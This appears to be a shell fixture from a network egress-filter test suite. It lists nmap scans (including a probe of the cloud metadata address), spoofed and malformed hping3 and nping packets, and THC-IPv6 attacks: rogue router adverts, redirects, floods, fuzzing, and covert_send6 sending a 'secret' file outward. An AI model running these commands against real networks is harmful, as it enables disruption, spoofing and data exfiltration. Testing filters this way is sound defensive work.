# SPDX-License-Identifier: LGPL-2.1-or-later
# shellcheck shell=sh disable=SC2154
# The list of tools: attack NAME SECONDS COMMAND…

scan() {
    scan_name=$1
    shift
    attack "nmap $scan_name" 8 nmap -n -Pn --disable-arp-ping --max-retries 0 --host-timeout 5 --min-rate 500 "$@"
}
odd() { attack "scapy $1" 12 /usr/bin/python3 "$HOSTILE/odd.py" "$1" vde0 "$GUEST" "$GUEST6" "$FAR4" "$FAR6"; }
# What sends as fast as it can gets a quarter of a second.
flood() {
    flood_name=$1
    shift
    attack "$flood_name" 0.25 "$@"
}

all_tools() {
    quick_tools
    [ -n "${EGRESS_QUICK:-}" ] || long_tools
}

quick_tools() {
    # While the network is sure to be whole: these talk to it.
    for set in replay dns-tcp; do odd "$set"; done
    scan SYN -sS -p 1-100,443,8080,9000 "$FAR4"
    scan ACK -sA -p 1-50 "$FAR4"
    scan Xmas -sX -p 1-50 "$FAR4"
    scan UDP -sU -p 1-40,53,67,68,69,123,137,161,5000,5353 "$FAR4"
    scan protocols -sO "$FAR4"
    scan fragments -sS -f -p 1-50 "$FAR4"
    scan "from port 53" -sU -g 53 -p 1-30,5000 "$FAR4"
    scan "IPv6 SYN" -6 -sS -p 1-50 "$FAR6"
    scan "the gateway" -sS -p 1-100 10.0.2.2
    for set in fragments dns dhcp icmp spoof; do odd "$set"; done
    attack "hping3 SYN" 3 hping3 -q -i u2000 -c 200 -S -p ++1 "$FAR4"
    attack "nping UDP" 3 nping -q --udp -c 50 --rate 200 -p 5000 --data-string smuggled "$FAR4"
    attack "fake_router26" 1 atk6-fake_router26 -A 2001:db8:9::/64 -n 5 -i 1 vde0
    attack "implementation6" 2 atk6-implementation6 -p vde0 fd00::2
    flood "flood_router26" atk6-flood_router26 vde0
}

nmap_tools() {
    scan connect -sT -p 1-100,8080 "$FAR4"
    scan FIN -sF -p 1-50 "$FAR4"
    scan NULL -sN -p 1-50 "$FAR4"
    scan Maimon -sM -p 1-50 "$FAR4"
    scan window -sW -p 1-50 "$FAR4"
    scan "every flag" --scanflags URGACKPSHRSTSYNFIN -sS -p 1-30 "$FAR4"
    scan "SCTP INIT" -sY -p 1-50 "$FAR4"
    scan "SCTP COOKIE" -sZ -p 1-50 "$FAR4"
    scan "MTU 24" -sS --mtu 24 -p 1-30 "$FAR4"
    scan "UDP fragments" -sU -f --data-length 64 -p 5000-5020 "$FAR4"
    scan "from port 67" -sU -g 67 -p 1-20,67 10.0.2.2
    scan "from port 68" -sU -g 68 -p 60-70 10.0.2.2
    scan "SYN from port 53" -sS -g 53 -p 1-30 "$FAR4"
    scan "SYN from a forwarded port" -sS -g 9000 -p 1-30,9000 10.0.2.2
    scan "UDP from a forwarded port" -sU -g 9001 -p 1-30,5000 10.0.2.2
    scan "loose source route" -sS --ip-options "L 10.0.2.2" -p 1-20 "$FAR4"
    scan "record route" -sS --ip-options R -p 1-20 "$FAR4"
    scan "timestamp" -sU --ip-options T -p 1-20 "$FAR4"
    scan "data behind SYN" -sS --data-length 200 -p 1-30 "$FAR4"
    scan "data behind UDP" -sU --data-string smuggled -p 1-30,5000 "$FAR4"
    scan "bad checksums" -sS --badsum -p 1-30 "$FAR4"
    scan decoys -sS -D 10.0.2.99,10.0.2.3,10.0.2.2,198.51.100.77,ME -p 1-20 "$FAR4"
    scan "another MAC" -sS --spoof-mac 02:00:00:00:00:99 -p 1-30 "$FAR4"
    scan "the gateway's MAC" -sS --spoof-mac 52:55:0a:00:02:02 -p 1-30 "$FAR4"
    scan "TTL 1" -sS --ttl 1 -p 1-20 "$FAR4"
    scan "Ethernet frames" -sS --send-eth -p 1-20 "$FAR4"
    scan "the resolver" -sS -p 1-100 10.0.2.3
    scan "the resolver, UDP" -sU -p 1-60 10.0.2.3
    scan "the whole subnet" -sS -p 22,80 10.0.2.0/28
    scan metadata -sS -p 80,443 169.254.169.254
    scan "system" -O -p 1-20,80 "$FAR4"
    scan "versions" -sV --version-intensity 2 -p 80 "$FAR4"
    scan "scripts" --script "dns-nsid,dns-recursion,tftp-enum,dhcp-discover,broadcast-dhcp-discover" -sU -p 53,67,69 10.0.2.2
    attack "nmap ping sweep" 5 nmap -n -sn --disable-arp-ping --max-retries 0 --host-timeout 4 -PE -PP -PM -PS80 -PA80 \
        -PU5000 -PY80 -PO "$FAR4"
    scan traceroute -sS --traceroute -p 80 "$FAR4"
    scan "IPv6 UDP" -6 -sU -p 1-30,53,5000 "$FAR6"
    scan "IPv6 protocols" -6 -sO -p 0-255 "$FAR6"
    scan "IPv6 hop by hop" -6 -sS --ip-options "\\x3c\\x00\\x01\\x04\\x00\\x00\\x00\\x00" -p 1-20 "$FAR6"
    scan "IPv6 from port 53" -6 -sU -g 53 -p 1-30 "$FAR6"
    scan "IPv6 gateway" -6 -sS -p 1-60 fd00::2
}

hping() {
    hping_name=$1
    shift
    attack "hping3 $hping_name" 3 hping3 -q -i u2000 -c 60 "$@"
}
ping_tools() {
    hping "NULL" -p 80 "$FAR4"
    hping "FIN, data" -F -p 80 -d 100 "$FAR4"
    hping "fragments" -S -p 80 -d 200 -f "$FAR4"
    hping "small MTU" -2 -p 5000 -d 200 -m 16 "$FAR4"
    hping "more fragments" -2 -p 5000 -d 40 -x -g 0 "$FAR4"
    hping "fragment offset" -2 -p 5000 -d 40 -g 8 "$FAR4"
    hping "random source" -S -p 80 --rand-source "$FAR4"
    hping "another address" -S -p 80 -a 10.0.2.77 "$FAR4"
    hping "UDP from 53" -2 -s 53 -k -p 5000 -d 20 "$FAR4"
    hping "UDP from the forwarded port" -2 -s 9001 -k -p 5000 -d 20 "$FAR4"
    hping "ICMP echo" -1 -d 60 "$FAR4"
    hping "ICMP timestamp" -1 --icmp-ts "$FAR4"
    hping "ICMP errors" -1 -C 3 -K 3 -d 60 "$FAR4"
    hping "ICMP redirect" -1 -C 5 -K 1 "$FAR4"
    hping "IP protocol 47" -0 -H 47 -d 60 "$FAR4"
    hping "IP protocol 4" -0 -H 4 -d 60 "$FAR4"
    hping "bad checksum" -S -b -p 80 "$FAR4"
    hping "header length" -S -p 80 -O 3 "$FAR4"
    hping "record route" -S -p 80 -G "$FAR4"
    nping_try "TCP, odd flags" --tcp --flags 0xff -p 80 "$FAR4"
    nping_try "ICMP" --icmp --data-string smuggled "$FAR4"
    nping_try "ARP" --arp --arp-type RARP 10.0.2.2
    nping_try "IPv6 UDP" -6 --udp -p 5000 --data-string smuggled --source-ip "$GUEST6" \
        --source-mac 02:00:00:00:00:98 --dest-mac 52:56:00:00:00:02 -e vde0 "$FAR6"
    nping_try "IP options" --udp -p 5000 --ip-options "S 10.0.2.2" "$FAR4"
    nping_try "more fragments" --udp -p 5000 --mf "$FAR4"
    nping_try "MTU" --udp -p 5000 --mtu 16 --data-length 200 "$FAR4"
}
nping_try() {
    nping_name=$1
    shift
    attack "nping $nping_name" 3 nping -q -c 20 --rate 100 "$@"
}

thc_tools() {
    head -c 3000 /dev/urandom >"$W/secret"
    printf 'www\nmail\nns\nallowed\nns1\nftp\n' >"$W/words"
    attack "fake_router6" 1 atk6-fake_router6 vde0 2001:db8:9::/64
    attack "kill_router6" 1 atk6-kill_router6 vde0 fe80::2
    attack "redir6" 2 atk6-redir6 vde0 fd00::2 "$FAR6" fe80::2 "$GUEST_LL"
    attack "toobig6" 2 atk6-toobig6 -u vde0 fd00::2 "$GUEST6" 1280
    attack "covert_send6" 2 atk6-covert_send6 vde0 "$FAR6" "$W/secret"
    attack "fragmentation6" 5 atk6-fragmentation6 -p vde0 fd00::2
    attack "exploit6" 3 atk6-exploit6 vde0 fd00::2
    attack "firewall6" 4 atk6-firewall6 vde0 fd00::2 80
    attack "firewall6 UDP" 4 atk6-firewall6 -u vde0 fd00::2 5000
    attack "fuzz_ip6 echo" 2 atk6-fuzz_ip6 -1 vde0 fd00::2
    attack "fuzz_ip6 fragments" 2 atk6-fuzz_ip6 -F -2 vde0 fd00::2
    attack "fuzz_ip6 router advertisement" 2 atk6-fuzz_ip6 -5 vde0 fd00::2
    attack "thcsyn6" 0.5 atk6-thcsyn6 -i 1000 vde0 fd00::2 80
    attack "thcping6" 2 atk6-thcping6 vde0 "$GUEST6" fd00::2
    attack "thcping6 routing header" 2 atk6-thcping6 -F fd00::3 vde0 "$GUEST6" fd00::2
    attack "trace6" 3 atk6-trace6 -t vde0 "$FAR6" 80
    attack "randicmp6" 4 atk6-randicmp6 vde0 fd00::2
    attack "node_query6" 2 atk6-node_query6 vde0 fd00::2
    attack "inverse_lookup6" 2 atk6-inverse_lookup6 vde0 52:56:00:00:00:02
    attack "fake_mld6" 1 atk6-fake_mld6 vde0 add ff02::fb
    attack "fake_mld26" 1 atk6-fake_mld26 vde0 add ff02::fb
    attack "fake_mldrouter6" 1 atk6-fake_mldrouter6 vde0 advertise
    attack "fake_pim6" 1 atk6-fake_pim6 vde0 hello
    attack "four2six" 2 atk6-four2six vde0 fd00::2 10.0.2.15 198.51.100.7 80
    attack "dump_dhcp6" 2 atk6-dump_dhcp6 vde0
    attack "smurf6" 0.25 atk6-smurf6 -i 1000 vde0 fd00::2
    attack "dnsdict6" 6 atk6-dnsdict6 -4 -t 4 denied.test "$W/words"
    flood "flood_router6" atk6-flood_router6 vde0
    flood "flood_mld6" atk6-flood_mld6 vde0
    flood "flood_mld26" atk6-flood_mld26 vde0
    flood "flood_mldrouter6" atk6-flood_mldrouter6 vde0
    flood "flood_dhcpc6" atk6-flood_dhcpc6 vde0
    flood "flood_redir6" atk6-flood_redir6 vde0 fd00::2
    flood "flood_unreach6" atk6-flood_unreach6 vde0 fd00::2
    flood "flood_solicitate6, which is allowed" atk6-flood_solicitate6 vde0 fd00::2
    flood "flood_advertise6, which is allowed" atk6-flood_advertise6 vde0
    flood "sendpees6" atk6-sendpees6 vde0 1024 fd00:: fd00::2
    flood "ndpexhaust26" atk6-ndpexhaust26 vde0 2001:db8:9::
}

long_tools() {
    for set in flags chains link lengths table; do odd "$set"; done
    nmap_tools
    ping_tools
    thc_tools
}
